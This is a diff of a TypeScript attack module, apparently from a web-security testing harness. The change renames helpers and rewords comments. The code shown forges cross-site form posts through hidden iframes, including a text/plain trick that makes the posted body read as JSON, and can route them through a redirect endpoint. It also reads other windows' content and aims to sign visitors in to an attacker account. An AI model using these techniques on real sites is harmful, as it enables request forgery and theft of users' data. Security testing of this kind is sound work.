@@ -3,7 +3,7 @@ export interface Targets {
   /** The site. */
   url: string;
   taskId: string;
-  /** The attacker's account on the site: the page tries to sign visitors in to it. */
+  /** The attacker's account on the site. The page tries to sign visitors in to it. */
   attacker: { name: string; email: string; password: string };
   /** How long to wait for events that may never happen, in milliseconds. */
   timeoutMs: number;
@@ -77,21 +77,21 @@ export async function attack({ url, taskId, attacker, timeoutMs }: Targets): Pro
     if (["load", "loadedmetadata"].includes(await outcome) && !["iframe", "object", "embed"].includes(name)) {
       leaks.push(`<${name}> ${path}`);
     }
-    lookInto(`<${name}> ${path}`, (element as HTMLIFrameElement).contentWindow);
+    readWindow(`<${name}> ${path}`, (element as HTMLIFrameElement).contentWindow);
     element.remove();
   }
 
   /** Reads the content of another window, if the browser allows it. */
-  function lookInto(what: string, other: Window | null | undefined): void {
+  function readWindow(what: string, other: Window | null | undefined): void {
     try {
       const text = other?.document.body?.innerText;
       if (text && other?.location.href !== "about:blank") leaks.push(`${what}: ${text}`);
     } catch {
-      // Another origin's.
+      // The window belongs to another origin.
     }
   }
 
-  async function tryForm(path: string, enctype: string, body: Record<string, unknown>, detour: boolean): Promise<void> {
+  async function tryForm(path: string, enctype: string, body: Record<string, unknown>, redirected: boolean): Promise<void> {
     const frame = document.createElement("iframe");
     frame.name = `frame-${Math.random()}`;
     document.body.append(frame);
@@ -99,8 +99,8 @@ export async function attack({ url, taskId, attacker, timeoutMs }: Targets): Pro
     form.method = "post";
     form.enctype = enctype;
     form.target = frame.name;
-    form.action = detour ? `${location.protocol}//${location.host}/redirect?to=${encodeURIComponent(url + path)}` : url + path;
-    // As plain text, the name and the value make up a JSON document.
+    form.action = redirected ? `${location.protocol}//${location.host}/redirect?to=${encodeURIComponent(url + path)}` : url + path;
+    // As plain text, the name and the value together are a JSON document.
     const fields = enctype === "text/plain" ? { [JSON.stringify(body).replace(/}$/, ',"x":"')]: '"}' } : body;
     for (const [name, value] of Object.entries(fields)) {
       const input = document.createElement("input");
@@ -111,7 +111,7 @@ export async function attack({ url, taskId, attacker, timeoutMs }: Targets): Pro
     const loaded = settled(frame, "load");
     form.submit();
     await loaded;
-    lookInto(`form ${path}`, frame.contentWindow);
+    readWindow(`form ${path}`, frame.contentWindow);
     frame.remove();
     form.remove();
   }
@@ -134,7 +134,7 @@ export async function attack({ url, taskId, attacker, timeoutMs }: Targets): Pro
       }
     };
     while (other && !foreign() && performance.now() < deadline) await new Promise((resolve) => setTimeout(resolve, 20));
-    lookInto(`window ${path}`, other);
+    readWindow(`window ${path}`, other);
     other?.close();
   }
 
